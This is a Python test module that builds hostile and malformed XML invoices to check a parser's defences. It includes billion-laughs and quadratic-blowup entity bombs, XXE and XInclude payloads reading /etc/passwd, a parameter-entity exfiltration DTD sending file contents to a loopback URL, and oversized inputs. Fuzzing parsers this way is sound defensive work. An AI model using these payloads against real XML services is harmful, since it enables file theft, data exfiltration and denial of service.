"""Hostile and odd XML: DTDs and entities, declared and actual encodings that disagree,
broken or oversized structure and absurd values."""

from __future__ import annotations

import random
from collections.abc import Callable

from tests.intake.mutations.base import CII, UBL, UBL_EMBEDDED, UBL_WITH_PDF, Mutation, corpus

_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
).replace("&lol0;", "lol")

DOCTYPES = {
    "billion-laughs": f"<!DOCTYPE Invoice [<!ENTITY lol0 'lol'>{_LAUGHS}]>",
    "quadratic-blowup": f'<!DOCTYPE Invoice [<!ENTITY a "{"x" * 50_000}">]>',
    "external-file-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external-url-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    "parameter-entity": (
        '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">%remote;]>'
    ),
    "parameter-entity-exfiltration": (
        '<!DOCTYPE Invoice [<!ENTITY % file SYSTEM "file:///etc/hostname">'
        "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>\">"
        "%eval;%send;]>"
    ),
    "external-dtd": '<!DOCTYPE Invoice SYSTEM "http://127.0.0.1:9/invoice.dtd">',
    "external-dtd-public": '<!DOCTYPE Invoice PUBLIC "-//X//EN" "file:///etc/passwd">',
    "empty-internal-subset": "<!DOCTYPE Invoice []>",
    "doctype-lowercase": "<!doctype Invoice>",
}
# Where the entity is used, so that a parser that resolved it would put it into a field.
_ENTITY_USE = {
    "billion-laughs": "&lol9;",
    "quadratic-blowup": "&a;" * 2_000,
    "external-file-entity": "&x;",
    "external-url-entity": "&x;",
}


def _xml_body(xml: bytes) -> bytes:
    """The document without its XML declaration."""
    return xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml


def with_doctype(relative: str, doctype: str, use: str, prolog: str = "") -> Callable:
    def build(rng: random.Random) -> bytes:
        body = _xml_body(corpus(relative))
        if use:
            body = body.replace(b"<cbc:Note>", b"<cbc:Note>" + use.encode(), 1)
            body = body.replace(b"<ram:Content>", b"<ram:Content>" + use.encode(), 1)
        return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}{doctype}'.encode()) + body

    return build


def _replace(relative: str, old: bytes, new: bytes, count: int = 1) -> Callable:
    def build(rng: random.Random) -> bytes:
        data = corpus(relative)
        assert old in data, (relative, old)
        return data.replace(old, new, count)

    return build


def _entities() -> list[Mutation]:
    found = [
        Mutation(
            f"{syntax}-{name}",
            "xml-dtd-entities",
            with_doctype(relative, doctype, _ENTITY_USE.get(name, "")),
        )
        for syntax, relative in (("ubl", UBL), ("cii", CII))
        for name, doctype in DOCTYPES.items()
    ]
    laughs, xxe = DOCTYPES["billion-laughs"], DOCTYPES["external-file-entity"]
    variants = {
        "doctype-after-comment-and-pi": (xxe, "&x;", "<!-- hi --><?pi x?>\n"),
        # Beyond the prolog scan's window: only the parser's own check is left to refuse it.
        "doctype-after-2mb-of-comments": (laughs, "&lol9;", "<!--" + "x" * 2_100_000 + "-->"),
    }
    for name, (doctype, use, prolog) in variants.items():
        found.append(
            Mutation(f"ubl-{name}", "xml-dtd-entities", with_doctype(UBL, doctype, use, prolog))
        )
    encoded = {
        "doctype-utf8-bom": lambda x: b"\xef\xbb\xbf" + x,
        "doctype-utf16-bom": lambda x: x.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "doctype-utf16le-no-bom": lambda x: (
            x.decode().replace("UTF-8", "UTF-16").encode("utf-16-le")
        ),
        "doctype-utf32": lambda x: x.decode().replace("UTF-8", "UTF-32").encode("utf-32"),
        "doctype-ebcdic": lambda x: x.decode().replace("UTF-8", "IBM037").encode("cp037"),
        "doctype-leading-whitespace": lambda x: b" \r\n\t" + x,
    }
    for name, encode in encoded.items():
        build = with_doctype(UBL, xxe, "&x;")
        found.append(
            Mutation(f"ubl-{name}", "xml-dtd-entities", lambda rng, b=build, e=encode: e(b(rng)))
        )
    no_doctype = {
        "xinclude-etc-passwd": (
            b"<cbc:Note>",
            b'<cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="file:///etc/passwd" parse="text"/>',
        ),
        "stylesheet-pi-url": (
            b"<Invoice",
            b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?><Invoice',
        ),
        "schema-location-url": (
            b"<Invoice ",
            b'<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="urn:x http://127.0.0.1:9/x.xsd" ',
        ),
        "undeclared-entity": (b"<cbc:Note>", b"<cbc:Note>&undeclared;"),
    }
    for name, (old, new) in no_doctype.items():
        found.append(Mutation(f"ubl-{name}", "xml-hostile", _replace(UBL, old, new)))
    return found


def _encodings() -> list[Mutation]:
    declaration = b'<?xml version="1.0" encoding="UTF-8"?>'
    note = b"<cbc:Note>"
    cases = {
        "declared-utf16-is-utf8": (declaration, declaration.replace(b"UTF-8", b"UTF-16")),
        "declared-unknown-encoding": (declaration, declaration.replace(b"UTF-8", b"x-bogus")),
        "declared-utf7": (declaration, declaration.replace(b"UTF-8", b"UTF-7")),
        "declared-shift-jis-with-bad-bytes": (
            declaration,
            declaration.replace(b"UTF-8", b"Shift_JIS") + b"<!-- \x81\xff\xa0 -->",
        ),
        "declared-windows-1252": (declaration, declaration.replace(b"UTF-8", b"windows-1252")),
        "xml-version-9": (declaration, declaration.replace(b'"1.0"', b'"9.9"')),
        "invalid-utf8": (note, note + b"\xff\xfe\xfd"),
        "latin1-in-utf8": (note, note + b"Caf\xe9 cr\xe8me"),
        "overlong-utf8": (note, note + b"\xc0\xaf\xe0\x80\xaf"),
        "utf8-surrogate": (note, note + b"\xed\xa0\x80"),
        "nul-byte": (note, note + b"a\x00b"),
        "control-chars": (note, note + b"\x01\x02\x1b[31m"),
        "char-ref-nul": (note, note + b"&#0;"),
        "char-ref-surrogate": (note, note + b"&#xD800;"),
        "utf16-bom-on-utf8": (declaration, b"\xff\xfe" + declaration),
        "double-utf8-bom": (declaration, b"\xef\xbb\xbf\xef\xbb\xbf" + declaration),
    }
    return [
        Mutation(f"ubl-{name}", "xml-encoding", _replace(UBL, old, new))
        for name, (old, new) in cases.items()
    ]


def _deep_nesting(rng: random.Random) -> bytes:
    depth = 100_000
    return corpus(UBL).replace(b"<cbc:Note>", b"<cbc:Note>" + b"<a>" * depth + b"</a>" * depth, 1)


def _structure() -> list[Mutation]:
    invoice_ns = b"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
    texts = {
        "ubl-root-only": b'<?xml version="1.0"?><Invoice xmlns="' + invoice_ns + b'"/>',
        "ubl-unknown-root": b'<?xml version="1.0"?><foo><bar/></foo>',
        "zugferd1-root": (
            b'<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>'
        ),
        "soap-wrapped-invoice": b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/'
        b'soap-envelope"><soap:Body>' + _xml_body(corpus(UBL)) + b"</soap:Body></soap:Envelope>",
        "two-roots": corpus(UBL) + b"<Invoice/>",
        "unclosed-cdata": corpus(UBL).replace(b"<cbc:Note>", b"<cbc:Note><![CDATA[x", 1),
        "comment-with-double-dash": corpus(UBL).replace(
            b"<cbc:Note>", b"<!-- a -- b --><cbc:Note>", 1
        ),
    }
    found = [Mutation(name, "xml-structure", lambda rng, d=data: d) for name, data in texts.items()]
    huge = {
        "deep-nesting-100k": _deep_nesting,
        "text-node-11mb": _replace(UBL, b"<cbc:Note>", b"<cbc:Note>" + b"x" * 11_000_000),
        "attribute-11mb": _replace(
            UBL, b"<cbc:Note>", b'<cbc:Note a="' + b"x" * 11_000_000 + b'">'
        ),
        "5000-attributes": _replace(
            UBL,
            b"<cbc:Note>",
            b"<cbc:Note " + b" ".join(b'a%d="1"' % i for i in range(5000)) + b">",
        ),
        "element-name-100k": _replace(UBL, b"<cbc:Note>", b"<" + b"n" * 100_000 + b"/><cbc:Note>"),
        "namespace-declarations-10k": _replace(
            UBL,
            b"<cbc:Note>",
            b"<cbc:Note " + b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(10_000)) + b">",
        ),
    }
    found += [Mutation(f"ubl-{name}", "xml-oversized", build) for name, build in huge.items()]
    values = {
        "amount-20-digits": (b">1656.25<", b">12345678901234567890.00<"),
        "amount-1000-digits": (b">1656.25<", b">" + b"9" * 1000 + b"<"),
        "amount-nan": (b">1656.25<", b">NaN<"),
        "amount-exponent": (b">1656.25<", b">1E+999999<"),
        "amount-30-decimals": (b">1656.25<", b">1656." + b"2" * 30 + b"<"),
        "date-impossible": (b"<cbc:IssueDate>", b"<cbc:IssueDate>2024-02-30"),
        "date-year-0": (b"<cbc:IssueDate>2017-11-13", b"<cbc:IssueDate>0000-01-01"),
        "currency-junk": (b'currencyID="EUR"', b'currencyID="\xe2\x82\xac\xe2\x82\xacUR!x"'),
        "invoice-number-100k": (b"<cbc:ID>Snippet1", b"<cbc:ID>" + b"N" * 100_000),
        "invoice-number-control-chars": (b"<cbc:ID>Snippet1", b"<cbc:ID>&#x7f;&#x85;\xe2\x80\xae1"),
    }
    for name, (old, new) in values.items():
        found.append(Mutation(f"ubl-{name}", "xml-values", _replace(UBL, old, new, -1)))
    found.append(
        Mutation(
            "ubl-with-pdf-bad-base64",
            "xml-values",
            _replace(UBL_WITH_PDF, UBL_EMBEDDED, b">@@not base64@@<"),
        )
    )
    return found


def mutations() -> list[Mutation]:
    return [*_entities(), *_encodings(), *_structure()]
